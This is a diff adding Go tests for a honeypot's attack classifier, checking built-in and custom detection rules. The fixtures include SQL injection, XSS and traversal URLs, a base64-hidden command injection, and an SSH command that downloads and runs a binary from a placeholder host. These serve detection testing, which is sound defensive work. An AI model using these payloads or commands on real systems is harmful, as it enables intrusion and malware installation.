@@ -0,0 +1,188 @@
+package classify
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"shadownet/types"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+// request builds an HTTP request event
+func request(url, body string) *types.Event {
+    return &types.Event{
+        Service: "http",
+        Kind:    types.EventRequest,
+        Src:     types.Endpoint{IP: "203.0.113.7", Port: 40000},
+        Payload: []byte(body),
+        Fields:  map[string]string{"url": url},
+    }
+}
+
+func TestBuiltinRulesClassifyWebAttacks(t *testing.T) {
+    c, err := Load("")
+    require.NoError(t, err)
+
+    tests := []struct {
+        name     string
+        ev       *types.Event
+        types    string
+        severity string
+    }{
+        {"union select", request("/item.php?id=1%20UNION%20ALL%20SELECT%20user,pass%20FROM%20users", ""), types.AttackTypeSQLInjection, "high"},
+        {"double encoded boolean", request("/login?user=admin%2527%2520OR%25201%253D1", ""), types.AttackTypeSQLInjection, "medium"},
+        {"script in body", request("/comment", "text=%3Cscript%3Ealert(1)%3C%2Fscript%3E"), types.AttackTypeXSS, "medium"},
+        {"html entities", request("/search?q=&lt;img src=x onerror=alert(1)&gt;", ""), types.AttackTypeXSS, "medium"},
+        {"traversal", request("/static/..%2F..%2F..%2Fetc%2Fpasswd", ""), types.AttackTypeDirectoryTraversal, "high"},
+        {"base64 injection", request("/cgi-bin/ping?host=127.0.0.1", "ip="+"OyB3Z2V0IGh0dHA6Ly8xOTguNTEuMTAwLjkvYm90"), types.AttackTypeCommandInjection, "critical"},
+    }
+    for _, tt := range tests {
+        c.Classify(tt.ev)
+        assert.Equal(t, tt.types, tt.ev.Fields[types.FieldAttackTypes], tt.name)
+        assert.Equal(t, tt.severity, tt.ev.Fields[types.FieldSeverity], tt.name)
+        assert.NotEmpty(t, tt.ev.Fields[types.FieldRules], tt.name)
+    }
+
+    // Ordinary traffic is left alone
+    benign := request("/index.php?page=2&id=7&sort=name", "user=alice&pass=hunter2")
+    c.Classify(benign)
+    assert.NotContains(t, benign.Fields, types.FieldAttackTypes)
+
+    // Only the start of a large body is searched
+    padded := request("/upload", strings.Repeat("A", maxScanBytes)+"<script>alert(1)</script>")
+    c.Classify(padded)
+    assert.NotContains(t, padded.Fields, types.FieldAttackTypes)
+}
+
+func TestBuiltinRulesClassifyShellCommands(t *testing.T) {
+    c, err := Load("")
+    require.NoError(t, err)
+
+    ev := &types.Event{
+        Service: "ssh",
+        Kind:    types.EventCommand,
+        Details: "cd /tmp; wget http://198.51.100.9/x86 -O .x; chmod +x .x; ./.x",
+    }
+    c.Classify(ev)
+    assert.Equal(t, types.AttackTypeMalwareDownload, ev.Fields[types.FieldAttackTypes])
+
+    // A command is not a URL, so web rules do not see it
+    ls := &types.Event{Service: "ssh", Kind: types.EventCommand, Details: "cat /etc/passwd"}
+    c.Classify(ls)
+    assert.Nil(t, ls.Fields)
+}
+
+func TestThresholdRules(t *testing.T) {
+    c, err := Load("")
+    require.NoError(t, err)
+    now := time.Date(2024, 5, 1, 12, 0, 0, 0, time.UTC)
+    c.now = func() time.Time { return now }
+
+    connect := func(ip string, port int) *types.Event {
+        ev := &types.Event{
+            Service: "http",
+            Kind:    types.EventConnect,
+            Src:     types.Endpoint{IP: ip},
+            Dst:     types.Endpoint{IP: "10.0.0.10", Port: port},
+        }
+        c.Classify(ev)
+        return ev
+    }
+
+    // Reconnecting to one port is not a scan
+    for i := 0; i < 10; i++ {
+        assert.Empty(t, connect("198.51.100.1", 80).Fields[types.FieldAttackTypes])
+    }
+
+    // The fifth distinct port within a minute is
+    for _, port := range []int{21, 22, 23, 80} {
+        assert.Empty(t, connect("198.51.100.2", port).Fields[types.FieldAttackTypes])
+    }
+    ev := connect("198.51.100.2", 502)
+    assert.Equal(t, types.AttackTypePortScan, ev.Fields[types.FieldAttackTypes])
+    assert.Equal(t, "low", ev.Fields[types.FieldSeverity])
+
+    // Ports seen before the window do not count
+    now = now.Add(2 * time.Minute)
+    assert.Empty(t, connect("198.51.100.2", 8080).Fields[types.FieldAttackTypes])
+
+    login := func(user string) *types.Event {
+        ev := &types.Event{
+            Service:     "ssh",
+            Kind:        types.EventLogin,
+            Src:         types.Endpoint{IP: "198.51.100.3"},
+            Credentials: &types.Credentials{Username: user, Password: "123456"},
+        }
+        c.Classify(ev)
+        return ev
+    }
+    for i := 0; i < 9; i++ {
+        assert.Empty(t, login("root").Fields[types.FieldAttackTypes])
+    }
+    assert.Equal(t, types.AttackTypeSSHBruteForce, login("root").Fields[types.FieldAttackTypes])
+}
+
+func TestCustomRulesOverrideBuiltin(t *testing.T) {
+    path := filepath.Join(t.TempDir(), "rules.yaml")
+    rules := []byte(`rules:
+  - id: xss-functions
+    disabled: true
+  - id: port-scan
+    attack_type: port_scan
+    severity: high
+    kinds: [connect]
+    threshold: {count: 2, window: 10s, distinct: dst_port}
+  - id: modbus-write
+    attack_type: ics_write
+    severity: critical
+    services: [modbus]
+    targets: [field:function]
+    regex: '^0x(05|06|0f|10)$'
+`)
+    require.NoError(t, os.WriteFile(path, rules, 0644))
+
+    c, err := Load(path)
+    require.NoError(t, err)
+
+    var ids []string
+    for _, rule := range c.Rules() {
+        ids = append(ids, rule.ID)
+    }
+    assert.NotContains(t, ids, "xss-functions")
+    assert.Equal(t, "modbus-write", ids[len(ids)-1])
+
+    // Several rules can match one event; the highest severity wins
+    fields := map[string]string{"function": "0x06"}
+    ev := &types.Event{Service: "modbus", Kind: types.EventRequest, Fields: fields}
+    c.Classify(ev)
+    assert.Equal(t, "ics_write", ev.Fields[types.FieldAttackTypes])
+    assert.Equal(t, "modbus-write", ev.Fields[types.FieldRules])
+    assert.NotContains(t, fields, types.FieldAttackTypes, "the honeypot's map is not modified")
+
+    ev = request("/?q=alert(document.cookie)", "")
+    c.Classify(ev)
+    assert.Empty(t, ev.Fields[types.FieldAttackTypes])
+
+    // A missing file keeps the built-in rules
+    _, err = Load(filepath.Join(t.TempDir(), "missing.yaml"))
+    assert.NoError(t, err)
+}
+
+func TestInvalidRulesAreRejected(t *testing.T) {
+    for _, data := range []string{
+        "rules:\n  - id: a\n    attack_type: xss\n    severity: extreme\n    targets: [url]\n    regex: x\n",
+        "rules:\n  - id: a\n    attack_type: xss\n    severity: low\n    targets: [headers]\n    regex: x\n",
+        "rules:\n  - id: a\n    attack_type: xss\n    severity: low\n    targets: [url]\n    regex: '('\n",
+        "rules:\n  - id: a\n    attack_type: xss\n    severity: low\n",
+    } {
+        rules, err := ParseRules([]byte(data))
+        require.NoError(t, err)
+        _, err = New(rules)
+        assert.Error(t, err, data)
+    }
+}